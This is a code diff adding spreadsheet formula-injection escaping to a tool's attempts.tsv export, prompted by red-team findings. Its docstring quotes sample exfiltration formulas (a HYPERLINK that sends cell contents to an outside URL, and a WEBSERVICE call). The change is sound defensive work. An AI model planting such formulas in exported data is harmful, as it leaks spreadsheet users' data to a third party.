@@ -111,11 +111,21 @@ def audit_summary(audit: AuditRow) -> str:
     return f"{audit.status}:{first['id']}" if first else audit.status
 
 
+FORMULA_START = ("=", "+", "-", "@")
+"""What a spreadsheet reads a cell as a formula by when it begins with it (OWASP's CSV injection list; the
+tab and carriage return of that list are already spaces here)."""
+
+
 def tsv_cell(value: object) -> str:
     """``value`` as one cell of attempts.tsv: a ledger handed over may hold any text in a verdict's gate id, a
     lemma name or a status, and a line break there followed by tabs made ``putnam audit``'s own attempts.tsv
-    list an audited pass of a problem the run never selected (red team 14); so each is one cell on one line."""
-    return LINE_BREAKS.sub(" ", str(value))
+    list an audited pass of a problem the run never selected (red team 14); so each is one cell on one line.
+    And attempts.tsv is opened in spreadsheets, which run a cell that begins like a formula
+    (``=HYPERLINK("https://...?"&A2, "open")`` sends the table's cells away when clicked, LibreOffice's
+    ``=WEBSERVICE(...)`` when opened; red team round 9 of the trust paths): text that so begins is written
+    after a ``'``, which spreadsheets show as text and which no value putnam writes there begins with."""
+    text = LINE_BREAKS.sub(" ", str(value))
+    return f"'{text}" if isinstance(value, str) and text.lstrip(" ").startswith(FORMULA_START) else text
 
 
 def attempts_tsv(attempts: Sequence[AttemptRow], suffix: str, audits: Mapping[int, AuditRow] | None = None) -> str:
